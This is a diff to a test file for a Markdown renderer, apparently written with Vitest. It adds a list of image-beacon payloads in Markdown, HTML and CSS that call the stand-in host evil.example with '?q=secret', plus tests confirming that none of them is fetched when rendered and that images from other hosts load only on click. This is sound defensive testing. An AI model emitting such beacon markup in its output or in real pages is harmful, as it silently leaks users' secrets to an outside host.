@@ -51,6 +51,24 @@ const kAttacks = [
   "$\\htmlClass{fixed}{x}$ $\\htmlStyle{position:fixed}{y}$",
 ];
 
+/** What would be fetched as soon as it is shown, and carry away what its author knows. */
+const kBeacons = [
+  "![secret](https://evil.example/?q=secret)",
+  "![secret](//evil.example/?q=secret)",
+  "![secret](\\\\evil.example/?q=secret)",
+  "![secret][image]\n\n[image]: https://evil.example/?q=secret",
+  "[![secret](https://evil.example/?q=secret)](https://example.org)",
+  '<img src="https://evil.example/?q=secret" alt="secret">',
+  '<IMG SRC="HTTPS://evil.example/?q=secret" alt="secret">',
+  '<img src="x" srcset="https://evil.example/?q=secret 2x" alt="secret">',
+  '<picture><source srcset="https://evil.example/?q=secret"><img src="x" alt="secret"></picture>',
+  '<video poster="https://evil.example/?q=secret" src="https://evil.example/v" autoplay></video>',
+  '<audio src="https://evil.example/a" autoplay></audio>',
+  '<table background="https://evil.example/?q=secret"><tr><td>secret</td></tr></table>',
+  '<p style="background: url(https://evil.example/?q=secret)">secret</p>',
+  '<input type="image" src="https://evil.example/?q=secret">',
+];
+
 describe("Markdown against attacks", () => {
   it.each(kAttacks)("shows %s without harm", async (attack) => {
     const container = await show(attack);
@@ -72,6 +90,33 @@ describe("Markdown against attacks", () => {
   });
 });
 
+describe("Markdown that would fetch from elsewhere", () => {
+  const fetched = (container: Element) =>
+    [...container.querySelectorAll("*")].flatMap((element) =>
+      ["src", "srcset", "poster", "background", "style", "data"].map((name) => element.getAttribute(name) ?? ""),
+    );
+
+  it.each(kBeacons)("fetches nothing for %s", async (beacon) => {
+    const container = await show(beacon);
+    expect(fetched(container).filter((value) => /[\\/]{2}evil\.example/i.test(value))).toEqual([]);
+  });
+
+  it("loads an image of another host when asked, and says which host it is", async () => {
+    await show("[![A chart](https://images.example/chart.png)](https://example.org/page)");
+    const follow = vi.fn((event: Event) => event.defaultPrevented);
+    document.addEventListener("click", follow, { once: true });
+    await userEvent.click(screen.getByRole("button", { name: "A chart · Load image from images.example" }));
+    expect(follow).toHaveReturnedWith(true);
+    expect(screen.getByRole("img", { name: "A chart" }).getAttribute("src")).toBe("https://images.example/chart.png");
+    expect(screen.queryByRole("button", { name: /Load image/ })).toBeNull();
+  });
+
+  it("shows images of this service at once", async () => {
+    await show("![Own](/api/v1/files/a.png) ![Relative](docs/b.png)");
+    expect(screen.getAllByRole("img").map((image) => image.getAttribute("src"))).toEqual(["/api/v1/files/a.png", "docs/b.png"]);
+  });
+});
+
 describe("Markdown", () => {
   it("draws GitHub's tables, tasks, deletions and footnotes", async () => {
     const container = await show("# Title\n\n| a |\n|---|\n| 1 |\n\n- [x] did\n- [ ] open\n\n~~gone~~ and[^1]\n\n[^1]: The note.");
@@ -88,6 +133,21 @@ describe("Markdown", () => {
     const pre = container.querySelector("pre")!;
     await waitFor(() => expect(pre.querySelector("span[style*=color]")).not.toBeNull(), { timeout: 10_000 });
     expect(pre.textContent).toBe("const a: number = 1;\n");
+  });
+
+  it("keeps the colours of code that is being written, and shows what is added at once", async () => {
+    const text = (added: string) => `# T\n\n\`\`\`ts\nconst a: number = 1;\nconst b${added}`;
+    const { container, rerender } = render(<Markdown content={text("")} />);
+    const coloured = () => [...container.querySelectorAll<HTMLElement>("pre span[style*=color]")].map(({ textContent }) => textContent).join("");
+    await waitFor(() => expect(coloured()).toContain("const a"), { timeout: 10_000 });
+    for (const added of [": str", ": string = ", ": string = `\nmore"]) {
+      rerender(<Markdown content={text(added)} />);
+      expect(coloured()).toContain("const a: number = 1;");
+      expect(container.querySelector("pre")!.textContent).toBe(`const a: number = 1;\nconst b${added}\n`);
+    }
+    await waitFor(() => expect(coloured()).toContain("more"), { timeout: 10_000 });
+    rerender(<Markdown content={"```ts\nother\n```"} />);
+    expect(coloured()).toBe("");
   });
 
   it("shows code of a language nobody knows as it is", async () => {
